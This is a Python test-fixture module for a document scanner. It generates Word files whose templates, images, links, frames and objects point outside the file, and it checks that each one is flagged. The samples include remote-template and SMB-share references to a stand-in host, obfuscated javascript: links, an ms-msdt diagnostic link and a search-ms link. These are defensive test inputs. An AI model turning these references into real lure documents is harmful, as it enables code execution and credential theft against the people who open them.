"""Word files that fetch something from outside as soon as they are opened, or when somebody follows a link."""

from __future__ import annotations

from documents.rules import reasons
from tests.corpus.hostile.zip_tables import with_part
from tests.corpus.sample import family
from tests.documents.make_word import relationship, relationships, word

SHARE = r"\\a.example\share\x"
VML = "urn:schemas-microsoft-com:vml"


def outside(kind: str, target: str) -> bytes:
    return word(links=relationship(kind, target, external=True))


def of_part(part: str, kind: str, target: str) -> bytes:
    return with_part(f"word/_rels/{part}.rels", relationships(relationship(kind, target, external=True)))


def in_capitals() -> bytes:
    link = relationship("image", "http://a.example/x.png", external=True).replace('"External"', '"EXTERNAL"')
    return word(links=link)


def drawn_from(target: str) -> bytes:
    return word(f'<w:p><w:r><w:pict xmlns:v="{VML}"><v:imagedata src="{target}"/></w:pict></w:r></w:p>')


SAMPLES = family("word relations", "to-trinh.docx", {
    "a template from the web": (
        lambda: of_part("settings.xml", "attachedTemplate", "http://a.example/x.dotm"), reasons.OUTSIDE,
    ),
    "a template from a share": (lambda: of_part("settings.xml", "attachedTemplate", SHARE), reasons.OUTSIDE),
    "a template from a share as an address": (
        lambda: of_part("settings.xml", "attachedTemplate", "file://a.example/x.dotm"), reasons.OUTSIDE,
    ),
    "a template from a share behind three strokes": (
        lambda: of_part("settings.xml", "attachedTemplate", r"file:///\\a.example\x.dotm"), reasons.OUTSIDE,
    ),
    "a picture from the web": (lambda: outside("image", "http://a.example/x.png"), reasons.OUTSIDE),
    "a picture from a share": (lambda: outside("image", "file:////a.example/x.png"), reasons.OUTSIDE),
    "a picture in the header from the web": (
        lambda: of_part("header1.xml", "image", "https://a.example/x.png"), reasons.OUTSIDE,
    ),
    "a picture from the web in capitals": (in_capitals, reasons.OUTSIDE),
    "an old drawing from a share": (lambda: drawn_from(SHARE), reasons.OUTSIDE),
    "an old drawing from a file": (lambda: drawn_from("file:///c:/x.png"), reasons.OUTSIDE),
    "a link that is a script": (lambda: outside("hyperlink", "javascript:alert(1)"), reasons.OUTSIDE),
    "a link that is a script with spaces": (lambda: outside("hyperlink", " java&#9;script:alert(1)"), reasons.OUTSIDE),
    "a link that is a script of Basic": (lambda: outside("hyperlink", "vbscript:msgbox(1)"), reasons.OUTSIDE),
    "a link to a file": (lambda: outside("hyperlink", "file:///C:/Windows/win.ini"), reasons.OUTSIDE),
    "a link to a share": (lambda: outside("hyperlink", SHARE), reasons.OUTSIDE),
    "a link to an escaped share": (lambda: outside("hyperlink", "%5C%5Ca.example%5Cx"), reasons.OUTSIDE),
    "a link to a tool of support": (lambda: outside("hyperlink", "ms-msdt:/id PCWDiagnostic"), reasons.OUTSIDE),
    "a link to a search elsewhere": (
        lambda: outside("hyperlink", r"search-ms:query=x&amp;crumb=location:\\a.example"), reasons.OUTSIDE,
    ),
    "a link that holds a page": (lambda: outside("hyperlink", "data:text/html,x"), reasons.OUTSIDE),
    "a frame from the web": (lambda: of_part("webSettings.xml", "frame", "http://a.example/"), reasons.OUTSIDE),
    "addresses of a circular letter": (
        lambda: of_part("settings.xml", "mailMergeSource", "file:///c:/a.xlsx"), reasons.OUTSIDE,
    ),
    "a transformation on saving": (
        lambda: of_part("settings.xml", "transform", "http://a.example/x.xsl"), reasons.OUTSIDE,
    ),
    "an object from the web": (lambda: outside("oleObject", "http://a.example/x.html!"), reasons.EMBEDDED),
    "a chapter from elsewhere": (lambda: outside("subDocument", "file:///c:/a.docx"), reasons.IMPORTS),
    "an imported piece": (lambda: word(links=relationship("aFChunk", "a.xml")), reasons.IMPORTS),
})  # fmt: skip
